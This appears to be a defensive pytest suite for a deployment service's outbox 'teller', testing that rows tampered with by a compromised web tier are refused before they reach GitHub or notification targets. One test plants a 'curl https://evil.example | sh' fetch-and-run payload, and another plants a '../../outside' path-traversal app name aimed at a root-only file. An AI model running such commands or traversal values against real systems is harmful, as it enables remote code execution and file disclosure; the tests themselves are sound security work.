"""The teller reads rows web can write (it is taken over): apps, jobs,
releases and the outbox's own notices. Each is checked before it names a
file, reaches GitHub or goes to a target; and a call GitHub accepted is
never made again, whatever its answer looks like."""

from __future__ import annotations

import time
from typing import Any

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from agent.tell.say import Ended
from agent.tell.teller import Teller
from paas.crypto import Keyring, github_token_purpose, notify_url_purpose
from paas.db import session_scope
from paas.models import App, Deployment, Job, JobState, Notice, NotifyTarget
from paas.settings import Settings
from tests.integration.github_standin import PUSH, GitHubStandIn, sequence
from tests.unit.telling import TOKEN, Sent

COMMIT = "b" * 40
URL = "json://127.0.0.1:9/hook"


def _app(engine: Engine, settings: Settings, *, name: str = "shop", token: bool = True) -> App:
    keyring = Keyring(settings.keys_dir, private=False)
    with session_scope(engine) as s:
        sealed = keyring.encrypt(TOKEN, secret=True, purpose=github_token_purpose(name))
        app = App(
            name=name,
            repo_url="https://github.com/octo/shop.git",
            webhook_secret="x",
            github_token=sealed if token else "",
        )
        s.add(app)
        s.flush()
        target = NotifyTarget(app_id=app.id, url="", masked="m", events=[])
        s.add(target)
        s.flush()
        target.url = keyring.encrypt(URL, secret=True, purpose=notify_url_purpose(target.id, name))
        s.add(target)
        return app


def _job(engine: Engine, app: App) -> Job:
    with session_scope(engine) as s:
        job = Job(
            kind="deploy", app_id=app.id, app_name=app.name, payload={"commit": COMMIT, "trigger": "push"}
        )
        s.add(job)
        return job


def _drain(teller: Teller, channel: str = "github") -> None:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        teller.send_due(channel)
        with Session(teller.db) as s:
            if not s.exec(select(Notice).where(Notice.state == "pending", Notice.channel == channel)).first():
                return
        time.sleep(0.05)
    raise AssertionError("the outbox did not empty")


def test_an_app_named_to_climb_out_of_the_logs_is_told_nothing_and_nothing_is_read(
    teller: tuple[Teller, Sent], engine: Engine, settings: Settings
) -> None:
    """Web renames an app ``../../outside``: a failure's notification would
    carry the last lines of ``<logs>/../../outside/v1.log`` (any file root can
    read, named vN.log), and the GitHub log line would be appended to it."""
    tell, sent = teller
    settings.logs_dir.mkdir(parents=True, exist_ok=True)
    outside = (settings.logs_dir / ".." / ".." / "outside").resolve()  # where the name leads
    outside.mkdir(parents=True)
    (outside / "v1.log").write_text("root's private line\n")
    (outside / "v1.log").chmod(0o600)
    app = _app(engine, settings, token=False)
    job = _job(engine, app)
    with session_scope(engine) as s:
        dep = Deployment(app_id=app.id or 0, version=1, commit=COMMIT, job_id=job.id, error="build: failed")
        s.add(dep)
        s.flush()
        row = s.get(App, app.id)
        assert row is not None
        row.name = "../../outside"
        s.add(row)
    tell.finished(job, dep.id, Ended(JobState.failed, "build: failed"))
    _drain(tell, "notify")
    assert all("private" not in body for body in sent.bodies)
    assert sent.messages == []
    assert (outside / "v1.log").read_text() == "root's private line\n"
    assert oct((outside / "v1.log").stat().st_mode & 0o777) == "0o600"


def test_a_poisoned_report_never_reaches_github(
    teller: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
) -> None:
    """Web rewrites a queued report: its deployment's payload (what a
    workflow listening for deployments reads) and ref are not the agent's."""
    tell, _sent = teller
    app = _app(engine, settings)
    _job(engine, app)
    tell.scan()
    with session_scope(engine) as s:
        notice = s.exec(select(Notice).where(Notice.channel == "github")).one()
        ops = [dict(op) for op in notice.payload["ops"]]
        for op in ops:
            if op["op"] == "deployment":
                op["payload"] = {"paas_job": notice.job_id, "script": "curl https://evil.example | sh"}
        notice.payload = {**notice.payload, "ops": ops}
        s.add(notice)
    tell.send_due("github")
    assert github.calls == []
    with Session(engine) as s:
        notice = s.exec(select(Notice).where(Notice.channel == "github")).one()
    assert notice.state == "failed" and "payload" in notice.last_error


def test_a_value_a_notice_cannot_carry_fails_that_notice_alone(
    teller: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
) -> None:
    """A release's error holding a NUL (a build printed one): the report
    and the notification that would carry it are written failed, naming the
    field, as the check before sending would refuse them; nothing else is
    lost, and the outbox sends on."""
    tell, sent = teller
    app = _app(engine, settings)
    job = _job(engine, app)
    tell.scan()
    with session_scope(engine) as s:
        dep = Deployment(app_id=app.id or 0, version=1, commit=COMMIT, job_id=job.id, error="build: a\0b")
        s.add(dep)
    tell.finished(job, dep.id, Ended(JobState.failed, "build: a\0b"))
    with Session(engine) as s:
        ended = s.exec(select(Notice).where(Notice.channel == "github", Notice.event == "ended")).one()
        told = s.exec(select(Notice).where(Notice.channel == "notify")).one()
    assert ended.state == "failed" and "description" in ended.last_error, ended.last_error
    assert told.state == "failed" and "body" in told.last_error, told.last_error
    _drain(tell)
    assert sequence(github.calls) == PUSH[:3]  # the queued report went out, the failed one never
    assert sent.messages == []


def test_an_answer_github_accepted_but_that_does_not_parse_is_not_sent_again(
    teller: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
) -> None:
    """A GitHub (or a proxy) answering 201 with less than its schema says:
    each call is made once, the whole push is reported, in order."""
    tell, _sent = teller
    github.short_answers = True
    app = _app(engine, settings)
    job = _job(engine, app)
    tell.scan()
    with session_scope(engine) as s:
        dep = Deployment(app_id=app.id or 0, version=1, commit=COMMIT, trigger="push", job_id=job.id)
        s.add(dep)
    tell.started(job, dep.id or 0)
    tell.finished(job, dep.id, Ended(JobState.done))
    for _ in range(5):  # what a busy agent does: several rounds, one a second or faster
        tell.send_due("github")
    _drain(tell)
    assert sequence(github.calls) == PUSH
    with Session(engine) as s:
        assert {n.state for n in s.exec(select(Notice).where(Notice.channel == "github"))} == {"sent"}


def test_an_unforeseen_failure_waits_its_turn_rather_than_looping(
    teller: tuple[Teller, Sent],
    github: GitHubStandIn,
    engine: Engine,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    tell, _sent = teller
    app = _app(engine, settings)
    _job(engine, app)
    tell.scan()
    from agent.tell import github

    calls: list[str] = []

    def broken(self: Any, *args: Any, **kwargs: Any) -> None:
        calls.append("status")
        raise KeyError("a shape nobody expected")

    monkeypatch.setattr(github.GitHubClient, "commit_status", broken)
    for _ in range(5):
        tell.send_due("github")
    assert calls == ["status"]
    with Session(engine) as s:
        notice = s.exec(select(Notice).where(Notice.channel == "github")).one()
    assert notice.state == "pending" and "KeyError" in notice.last_error
    assert notice.next_at.replace(tzinfo=None) > notice.created_at.replace(tzinfo=None)
